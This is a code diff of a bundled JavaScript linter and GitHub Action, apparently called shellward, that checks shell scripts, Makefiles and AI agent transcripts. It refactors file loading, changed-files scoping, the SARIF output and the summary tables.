+  if (!format2) return [{ file, diagnostics: [skipped(file, "cannot be read (EIO)")] }, 0];
+  const verdicts = [];
+  const onCall = withVerdicts ? (call) => {
+    verdicts.push(unitVerdict(linter, call.unit, "tool-call", { lineShift: call.lineShift }));
+  } : void 0;
+  try {
+    const r = await lintTranscriptFile(linter, c3.path, file, format2, seen, onCall, profile);
+    verdicts.sort((a2, b) => a2.range.start.line - b.range.start.line || a2.range.start.column - b.range.start.column);
+    return [{ file, diagnostics: r.diagnostics, ...withVerdicts ? { verdicts } : {} }, r.bytes];
+  } catch (err2) {
+    const code = err2.code ?? "error";
+    return [{ file, diagnostics: [skipped(file, `cannot be read (${code})`)] }, 0];
+  }
 }
 function encodingNote(linter, file, text, invalidAt, profile) {
   if (invalidAt === void 0) return [];
@@ -58720,58 +68302,112 @@ function withProjectRoot(unit, root) {
   const dirs = [...unit.context?.additionalDirectories ?? [], resolve6(root)];
   return { ...unit, context: { ...unit.context, additionalDirectories: dirs } };
 }
-async function withSuppressions(linter, file, text, pending, profile, kind) {
-  if (!text.includes(DIRECTIVE_MARKER)) return [...pending];
-  let comments = [];
-  if (kind === "makefile") {
-    comments = makefileCommentSpans(text);
-  } else {
-    const tree = parseBash(await initParser(), text);
-    if (tree) {
-      try {
-        comments = buildViews(tree, text).comments;
-      } finally {
-        tree.delete();
-      }
-    }
-  }
+function withSuppressions(linter, file, text, pending, profile, kind, parser) {
+  if (!kind.directiveComments || !mayHaveDirectives(text)) return [...pending];
+  const comments = kind.directiveComments(text, parser);
   return applySuppressions(file, pending, parseDirectives(text, comments), {
     known: (id) => ruleMeta(id) !== void 0,
-    severity: (id) => linter.severityFor(id, { profile })
+    severity: (id) => linter.severityFor(id, { profile }),
+    resolve: (name2) => ruleByName(name2)?.id,
+    shellcheck: rulesCitingShellcheck
   });
 }
 var PREFETCH = 8;
-async function loadCandidate(c3, makefile) {
-  const named = c3.explicit || makefile || dialectFromPath(c3.path) !== void 0;
+function noKindReason(path6) {
+  const base = path6.slice(Math.max(path6.lastIndexOf("/"), path6.lastIndexOf("\\")) + 1);
+  const dot = base.lastIndexOf(".");
+  const ext = dot > 0 ? base.slice(dot) : "";
+  if (mayBeTranscript(path6)) return "not a transcript format shellward reads (Claude Code, Codex CLI, Gemini CLI JSON/JSONL)";
+  return `not a kind of file shellward reads (${ext ? `a \`${ext}\` file` : "no known name"} without a shell shebang; shellward reads ${kindTitles()})`;
+}
+async function loadCandidate(c3, options) {
+  const byName = kindByName(c3.path, options);
   if (c3.content !== void 0) {
-    const head = c3.content.subarray(0, TRANSCRIPT_HEAD_BYTES);
-    if (!named && !detectShellScript(c3.path, new TextDecoder().decode(head.subarray(0, 512)))) return { kind: "not-shell" };
-    return { kind: "read", head, data: c3.content.length > MAX_FILE_BYTES ? void 0 : c3.content, size: c3.content.length };
+    const kind2 = byName ?? identifyKind(c3.path, new TextDecoder().decode(c3.content.subarray(0, SNIFF_CHARS)), { ...options, explicit: c3.explicit });
+    if (!kind2) return { kind: "none", reason: noKindReason(c3.path) };
+    return { kind: "read", input: kind2, data: c3.content.length > MAX_FILE_BYTES ? void 0 : c3.content, size: c3.content.length };
   }
-  if (!named && mayBeTranscript(c3.path)) {
-    const head = await readHead(c3.path, TRANSCRIPT_HEAD_BYTES);
-    return head ? { kind: "read", head, data: void 0, size: head.length } : { kind: "not-shell" };
+  let kind = byName;
+  if (!kind) {
+    const head = await readHead(c3.path, needsSniffing(c3.path).bytes);
+    if (!head) return c3.explicit ? { kind: "error", code: "EIO" } : { kind: "none", reason: noKindReason(c3.path) };
+    kind = identifyKind(c3.path, new TextDecoder().decode(head), { ...options, explicit: c3.explicit });
+    if (!kind) return { kind: "none", reason: noKindReason(c3.path) };
   }
-  if (!named) {
-    const head = await readHead(c3.path);
-    if (!head || !detectShellScript(c3.path, new TextDecoder().decode(head))) return { kind: "not-shell" };
-  }
+  if (kind.read === "stream") return { kind: "read", input: kind, data: void 0, size: 0 };
   try {
     const { size } = await stat4(c3.path);
-    if (size > MAX_FILE_BYTES) {
-      const head = await readHead(c3.path, TRANSCRIPT_HEAD_BYTES);
-      return head ? { kind: "read", head, data: void 0, size } : { kind: "error", code: "EIO" };
-    }
+    if (size > MAX_FILE_BYTES) return { kind: "read", input: kind, data: void 0, size };
     const data = new Uint8Array(await readFile3(c3.path));
-    return { kind: "read", head: data.subarray(0, TRANSCRIPT_HEAD_BYTES), data, size };
+    return { kind: "read", input: kind, data, size };
   } catch (err2) {
     return { kind: "error", code: err2.code ?? "error" };
   }
 }
 
+// src/project.ts
+function linterOptionsFor(config, mode) {
+  return {
+    severity: config.severity,
+    policy: config.policy,
+    ...(mode ?? config.permissionMode) === "acceptEdits" ? { mode: "acceptEdits" } : {}
+  };
+}
+async function runProject(options) {
+  const { cwd, config } = options;
+  const errors = [...options.discoveryErrors ?? []];
+  let found;
+  if (options.candidates) found = options.candidates;
+  else {
+    const d = await discover(options.paths && options.paths.length > 0 ? options.paths : ["."], cwd);
+    found = d.candidates;
+    errors.push(...d.errors);
+  }
+  const ignore = config.config.ignore ?? [];
+  const ignored = globMatcher(ignore);
+  const byPath = /* @__PURE__ */ new Map();
+  for (const c3 of found) {
+    if (ignore.length > 0 && ignored(relative4(config.root, c3.path).split(sep3).join("/"))) continue;
+    if (options.scope && !options.scope(c3)) continue;
+    byPath.set(c3.path, c3);
+  }
+  const wholeFileNames = /* @__PURE__ */ new Set();
+  if (options.wholeFiles && options.wholeFiles.length > 0) {
+    const d = await discover(options.wholeFiles, cwd);
+    errors.push(...d.errors);
+    for (const c3 of d.candidates) {
+      byPath.set(c3.path, { path: c3.path, explicit: true });
+      wholeFileNames.add(displayPath(c3.path, cwd));
+    }
+  }
+  const candidates = [...byPath.values()].sort((a2, b) => a2.path < b.path ? -1 : a2.path > b.path ? 1 : 0);
+  const linter = await Linter.create({ ...linterOptionsFor(config, options.permissionMode), ...options.linter });
+  const profiles = config.config.profile;
+  const profile = options.profile ?? profiles?.script ?? "script";
+  const run3 = await lintFiles(linter, candidates, {
+    cwd,
+    profile,
+    verdicts: options.verdicts === true,
+    makefileNames: config.config.makefiles ?? [],
+    makefileProfile: options.profile ?? profiles?.makefile ?? profile,
+    transcriptProfile: profiles?.transcript ?? "agent"
+  });
+  const results = [...run3.results];
+  const level = linter.severityFor("policy-overbroad-allow", { profile });
+  if (level) {
+    for (const p of policyFileResults(config, level)) {
+      const i3 = results.findIndex((r) => r.file === p.file);
+      if (i3 === -1) results.push(p);
+      else results[i3] = { ...results[i3], diagnostics: [...results[i3].diagnostics, ...p.diagnostics].sort(compareDiagnostics) };
+    }
+  }
+  results.sort((a2, b) => a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0);
+  return { results, filesAnalysed: run3.filesAnalysed, bytes: run3.bytes, errors, candidates, wholeFileNames, linter };
+}
+
 // action/scope.ts
 var CHANGED_ONLY_EVENTS = /* @__PURE__ */ new Set(["pull_request", "pull_request_target"]);
-function field(value, ...keys) {
+function field2(value, ...keys) {
   let v = value;
   for (const k of keys) {
     if (typeof v !== "object" || v === null) return void 0;
@@ -58785,11 +68421,11 @@ function eventBase(eventName, payload) {
   switch (eventName) {
     case "pull_request":
     case "pull_request_target":
-      return pick(field(payload, "pull_request", "base", "sha"), "pull_request.base.sha");
+      return pick(field2(payload, "pull_request", "base", "sha"), "pull_request.base.sha");
     case "merge_group":
-      return pick(field(payload, "merge_group", "base_sha"), "merge_group.base_sha");
+      return pick(field2(payload, "merge_group", "base_sha"), "merge_group.base_sha");
     case "push":
-      return pick(field(payload, "before"), "push before");
+      return pick(field2(payload, "before"), "push before");
     default:
       return void 0;
   }
@@ -58826,10 +68462,14 @@ function scopeResults(results, options) {
 // action/summary.ts
 var ANNOTATION_LIMIT = 10;
 var SUMMARY_TOP = 20;
+var NATURAL = new Intl.Collator("en", { numeric: true, sensitivity: "base" });
+function naturalCompare(a2, b) {
+  return NATURAL.compare(a2, b) || (a2 < b ? -1 : a2 > b ? 1 : 0);
+}
 function rankedFindings(results) {
   const all = results.flatMap((r) => r.diagnostics.map((d) => ({ file: r.file, d })));
   return all.sort(
-    (a2, b) => SEVERITY_RANK[a2.d.severity] - SEVERITY_RANK[b.d.severity] || (a2.file < b.file ? -1 : a2.file > b.file ? 1 : 0) || a2.d.range.start.line - b.d.range.start.line || a2.d.range.start.column - b.d.range.start.column
+    (a2, b) => SEVERITY_RANK[a2.d.severity] - SEVERITY_RANK[b.d.severity] || naturalCompare(a2.file, b.file) || a2.d.range.start.line - b.d.range.start.line || a2.d.range.start.column - b.d.range.start.column
   );
 }
 function planAnnotations(ranked, limit = ANNOTATION_LIMIT) {
@@ -58870,6 +68510,9 @@ function fileLink(f, blobUrl2) {
 function ruleLink(id) {
   return `<a href="${escapeHtml(ruleHelpUri(id))}"><code>${escapeHtml(id)}</code></a>`;
 }
+function ruleTitle(id) {
+  return escapeHtml(ruleMeta(id)?.title ?? "");
+}
 function table(head, rows) {
   const tr = (cells, tag) => `<tr>${cells.map((c3) => `<${tag}>${c3}</${tag}>`).join("")}</tr>`;
   return `<table>
@@ -58887,6 +68530,9 @@ function renderSummary(input) {
     const s = input.scope;
     const lines = s.allLines ? "all lines of them" : `only lines they change${s.droppedLines > 0 ? ` (${plural2(s.droppedLines, "finding")} on other lines not shown)` : ""}`;
     out2.push("", `Changed files only: ${plural2(s.files, "file")} changed since <code>${escapeHtml(s.base.slice(0, 12))}</code>, ${lines}.`);
+    if (s.compared) out2.push("", `Compared ${inlineHtml(s.compared)}.`);
+  } else if (input.unscoped) {
+    out2.push("", `Every file was linted: changed-only could not tell what changed (${inlineHtml(input.unscoped)}).`);
   }
   const ranked = rankedFindings(input.results);
   if (ranked.length > 0) {
@@ -58898,9 +68544,9 @@ function renderSummary(input) {
       perRule.set(key, e);
     }
     const rules = [...perRule.values()].sort(
-      (a2, b) => SEVERITY_RANK[a2.severity] - SEVERITY_RANK[b.severity] || b.count - a2.count || (a2.id < b.id ? -1 : a2.id > b.id ? 1 : 0)
+      (a2, b) => SEVERITY_RANK[a2.severity] - SEVERITY_RANK[b.severity] || b.count - a2.count || naturalCompare(a2.id, b.id)
     );
-    out2.push("", "### Findings per rule", "", table(["Rule", "Severity", "Findings"], rules.map((r) => [ruleLink(r.id), r.severity, String(r.count)])));
+    out2.push("", "### Findings per rule", "", table(["Rule", "Title", "Severity", "Findings"], rules.map((r) => [ruleLink(r.id), ruleTitle(r.id), r.severity, String(r.count)])));
     const top = ranked.slice(0, SUMMARY_TOP);
     out2.push(
       "",
@@ -58951,7 +68597,8 @@ function readInputs() {
     failOn,
     changedOnly: bool("changed-only", void 0),
     allLines: bool("all-lines", false),
-    sarifFile: core.getInput("sarif-file") || "shellward.sarif",
+    // Outside the workspace by default, so the report is never linted, committed or uploaded as an artefact by accident.
+    sarifFile: core.getInput("sarif-file") || (process.env.RUNNER_TEMP ? join4(process.env.RUNNER_TEMP, "shellward.sarif") : "shellward.sarif"),
     sarifCategory: core.getInput("sarif-category"),
     annotations: bool("annotations", true)
   };
@@ -58973,12 +68620,12 @@ async function readEvent() {
     return { name: name2, payload: {} };
   }
 }
-async function changeSet(cwd, base, allLines) {
+async function changeSet(cwd, base, allLines, exact = false) {
   const top = await execa("git", ["rev-parse", "--show-toplevel", "--show-prefix"], { cwd, reject: false });
   if (top.exitCode !== 0 || top.failed) throw new Error(`not in a git work tree (${String(top.stderr).trim() || top.shortMessage})`);
   const [root = cwd, prefix = ""] = String(top.stdout).split("\n");
-  const files = await changedFiles({ cwd: root, base });
-  const lines = allLines ? void 0 : await changedLines({ cwd: root, base });
+  const files = await changedFiles({ cwd: root, base, exact });
+  const lines = allLines ? void 0 : await changedLines({ cwd: root, base, exact });
   return { base, prefix: prefix.replace(/\/$/, ""), files: new Set(files), ...lines ? { lines } : {} };
 }
 function annotate(f) {
@@ -59007,6 +68654,10 @@ function blobUrl() {
   const { GITHUB_SERVER_URL: server, GITHUB_REPOSITORY: repo, GITHUB_SHA: sha } = process.env;
   return server && repo && sha ? `${server}/${repo}/blob/${sha}/` : void 0;
 }
+async function writeSarif(cwd, file, log2) {
+  await mkdir(dirname5(resolve7(cwd, file)), { recursive: true });
+  await writeFile(resolve7(cwd, file), JSON.stringify(log2, null, 2) + "\n");
+}
 async function run2() {
   await initBundledParser();
   let inputs;
@@ -59017,69 +68668,59 @@ async function run2() {
     throw err2;
   }
   const cwd = process.cwd();
-  let resolved;
+  let resolved2;
   try {
-    resolved = await loadConfig({ cwd, ...inputs.config ? { configFile: inputs.config } : {} });
+    resolved2 = await loadConfig({ cwd, ...inputs.config ? { configFile: inputs.config } : {} });
   } catch (err2) {
-    return core.setFailed(err2 instanceof ConfigError ? err2.message : String(err2));
+    const message4 = err2 instanceof ConfigError ? err2.message : String(err2);
+    const problem = err2 instanceof ConfigError ? { message: message4, file: err2.file, ...err2.location ? { line: err2.location.line, ...err2.location.column !== void 0 ? { column: err2.location.column } : {} } : {} } : { message: message4 };
+    await writeSarif(cwd, inputs.sarifFile, buildConfigErrorSarif({ rules: RULES2, toolVersion: VERSION }, problem, { category: inputs.sarifCategory }));
+    core.setOutput("sarif-file", inputs.sarifFile);
+    return core.setFailed(message4);
   }
   const event = await readEvent();
   const changedOnly = inputs.changedOnly ?? CHANGED_ONLY_EVENTS.has(event.name);
   let changes;
+  let compared;
+  let unscoped;
   if (changedOnly) {
     const base = eventBase(event.name, event.payload);
     if (!base) {
-      core.warning(`changed-only: the ${event.name || "unknown"} event names no base commit; linting every file.`);
+      unscoped = `the ${event.name || "unknown"} event names no base commit`;
+      core.warning(`changed-only: ${unscoped}; linting every file.`);
     } else {
       try {
-        changes = await changeSet(cwd, base.base, inputs.allLines);
-        core.info(`changed-only: ${plural2(changes.files.size, "file")} changed since ${base.base} (${base.source}).`);
+        const found = await resolveBase({ cwd, eventName: event.name, payload: event.payload, eventBase: base, log: (l) => core.info(l) });
+        changes = await changeSet(cwd, found.base, inputs.allLines, true);
+        compared = found.description;
+        core.info(`changed-only: ${plural2(changes.files.size, "file")} changed; compared ${compared}.`);
       } catch (err2) {
         const why = (err2 instanceof Error ? err2.message : String(err2)).replace(/\.$/, "");
         const advice = /fetch-depth/.test(why) ? "" : " Check out with `fetch-depth: 0` (actions/checkout) so the base commit is present.";
-        core.warning(`changed-only: cannot list the files changed since ${base.base} (${base.source}): ${why}.${advice} Linting every file.`);
+        unscoped = `cannot list the files changed since ${base.base} (${base.source}): ${why}`;
+        core.warning(`changed-only: ${unscoped}.${advice} Linting every file.`);
       }
     }
   }
-  const scripts = await discover(inputs.paths.length > 0 ? inputs.paths : ["."], cwd);
-  const transcripts = inputs.transcripts.length > 0 ? await discover(inputs.transcripts, cwd) : { candidates: [], errors: [] };
-  const errors = [...scripts.errors, ...transcripts.errors];
-  for (const e of errors) core.error(`${e.arg}: ${e.message}`);
-  const ignore = resolved.config.ignore ?? [];
-  const ignored = globMatcher(ignore);
-  const notIgnored = (c3) => ignore.length === 0 || !ignored(relative4(resolved.root, c3.path).split(sep3).join("/"));
   const isChanged = (c3) => {
     if (!changes) return true;
     const rel = displayPath(c3.path, cwd);
     return changes.files.has(changes.prefix === "" ? rel : `${changes.prefix}/${rel}`);
   };
-  const byPath = /* @__PURE__ */ new Map();
-  for (const c3 of scripts.candidates) if (notIgnored(c3) && isChanged(c3)) byPath.set(c3.path, c3);
-  for (const c3 of transcripts.candidates) byPath.set(c3.path, { path: c3.path, explicit: true });
-  const candidates = [...byPath.values()].sort((a2, b) => a2.path < b.path ? -1 : a2.path > b.path ? 1 : 0);
-  const keep = new Set(transcripts.candidates.map((c3) => displayPath(c3.path, cwd)));
-  const linter = await Linter.create({ severity: resolved.severity, policy: resolved.policy });
-  const profile = resolved.config.profile?.script ?? "script";
-  const lint = await lintFiles(linter, candidates, {
-    cwd,
-    profile,
-    makefileNames: resolved.config.makefiles ?? [],
-    transcriptProfile: resolved.config.profile?.transcript ?? "agent",
-    makefileProfile: resolved.config.profile?.makefile ?? profile
-  });
-  const level = linter.severityFor("policy-overbroad-allow", { profile });
-  if (level) lint.results.push(...policyFileResults(resolved, level));
+  const lint = await runProject({ cwd, config: resolved2, paths: inputs.paths.length > 0 ? inputs.paths : ["."], scope: isChanged, wholeFiles: inputs.transcripts });
+  const errors = lint.errors;
+  for (const e of errors) core.error(`${e.arg}: ${e.message}`);
+  const keep = lint.wholeFileNames;
+  const candidates = lint.candidates;
   let results = sortFileResults(lint.results);
   let scope;
   if (changes) {
     const scoped = scopeResults(results, { prefix: changes.prefix, files: changes.files, keep, ...changes.lines ? { lines: changes.lines } : {} });
     results = scoped.results;
-    scope = { base: changes.base, files: candidates.filter((c3) => !keep.has(displayPath(c3.path, cwd))).length, droppedLines: scoped.droppedLines, allLines: inputs.allLines };
+    scope = { base: changes.base, ...compared ? { compared } : {}, files: candidates.filter((c3) => !keep.has(displayPath(c3.path, cwd))).length, droppedLines: scoped.droppedLines, allLines: inputs.allLines };
   }
   const input = { results, rules: RULES2, toolVersion: VERSION, filesAnalysed: lint.filesAnalysed };
-  const sarif = buildSarif(input, { category: inputs.sarifCategory });
-  await mkdir(dirname5(resolve7(cwd, inputs.sarifFile)), { recursive: true });
-  await writeFile(resolve7(cwd, inputs.sarifFile), JSON.stringify(sarif, null, 2) + "\n");
+  await writeSarif(cwd, inputs.sarifFile, buildSarif(input, { category: inputs.sarifCategory, fileText: sarifFileText(cwd) }));
   const ranked = rankedFindings(results);
   const plan = inputs.annotations ? planAnnotations(ranked) : void 0;
   if (plan) {
@@ -59096,6 +68737,7 @@ async function run2() {
       sarifFile: inputs.sarifFile,
       ...plan ? { omitted: plan.omitted } : {},
       ...scope ? { scope } : {},
+      ...unscoped ? { unscoped } : {},
       ...url ? { blobUrl: url } : {}
     });
     await core.summary.addRaw(summary2).write();
